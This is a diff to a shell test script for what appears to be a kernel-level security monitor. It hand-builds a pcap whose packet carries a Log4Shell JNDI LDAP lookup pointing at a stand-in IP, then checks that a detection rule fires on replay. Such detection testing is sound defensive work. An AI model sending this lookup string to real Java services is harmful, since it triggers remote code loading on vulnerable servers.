@@ -87,8 +87,27 @@ else
 	skp "not root: setpriv missing"
 fi
 
+# A pcap with one Ethernet/IPv4/UDP frame carrying a Log4Shell lookup.
+le32() { printf '\\x%02x\\x%02x\\x%02x\\x%02x' $(($1 & 255)) $((($1 >> 8) & 255)) $((($1 >> 16) & 255)) $((($1 >> 24) & 255)); }
+be16() { printf '\\x%02x\\x%02x' $((($1 >> 8) & 255)) $(($1 & 255)); }
+write_pcap() {
+	local payload='GET /?q=${jndi:ldap://203.0.113.7/a} HTTP/1.1'
+	local plen=${#payload} ulen=$((8 + ${#payload})) iplen=$((28 + ${#payload}))
+	local flen=$((14 + iplen))
+	{
+		printf '\xd4\xc3\xb2\xa1\x02\x00\x04\x00'; printf "$(le32 0)$(le32 0)$(le32 65535)$(le32 1)"
+		printf "$(le32 1767323045)$(le32 0)$(le32 $flen)$(le32 $flen)"
+		printf '\x00\x11\x22\x33\x44\x55\x66\x77\x88\x99\xaa\xbb\x08\x00'
+		printf "\\x45\\x00$(be16 $iplen)\\x00\\x01\\x00\\x00\\x40\\x11\\x00\\x00"
+		printf '\xc0\x00\x02\x01\x0a\x00\x00\x02'
+		printf "$(be16 40000)$(be16 8080)$(be16 $ulen)\\x00\\x00"
+		printf '%s' "$payload"
+	} >"$1"
+	[ "$plen" -gt 0 ]
+}
+
 # ---- attach, attack, alerts
-if ! attach --record "$W/rec.jsonl" "$W/rules.yml"; then
+if ! attach --record "$W/rec.jsonl" --metrics 127.0.0.1:47990 "$W/rules.yml"; then
 	bad "attach" "$W/attach.log"
 	echo "$pass passed, $fail failed, $skip skipped"
 	exit 1
@@ -116,6 +135,17 @@ check "prometheus: accounting identity per source" "awk '
 	/^kestrel_events_dropped_total\{/ { match(\$0, /source=\"[a-z]+\"/); s = substr(\$0, RSTART, RLENGTH); d[s] += \$2 }
 	END { for (s in t) if (t[s] != f[s] + w[s] + d[s]) exit 1; exit !(length(t) > 0) }' $W/prom.txt" "$W/prom.txt"
 check "prometheus: alerts counted per rule" "grep -q '^kestrel_alerts_total{rule=\"e2e_tmp_exec\"} [1-9]' $W/prom.txt" "$W/prom.txt"
+
+exec 5<>/dev/tcp/127.0.0.1/47990 && printf 'GET /metrics HTTP/1.0\r\n\r\n' >&5 && cat <&5 >"$W/http.txt"
+exec 5<&-
+check "GET /metrics over HTTP (--metrics)" "grep -q '^HTTP/1.[01] 200' $W/http.txt && grep -q '^kestrel_events_total{source=\"exec\"}' $W/http.txt" "$W/http.txt"
+
+# ---- pcap replay through the XDP program
+write_pcap "$W/log4shell.pcap"
+"$KLOAD" replay --pcap "$W/log4shell.pcap" rules/ >"$W/pcap.jsonl" 2>"$W/out"
+rc=$?
+check "replay --pcap: a payload rule fires through ks_xdp_main" \
+	"[ $rc -eq 0 ] && grep -q '\"id\":\"packet_log4shell_jndi\"' $W/pcap.jsonl" "$W/out"
 
 # ---- record -> replay: the same alerts
 sleep 1.2	# the recorder flushes every second
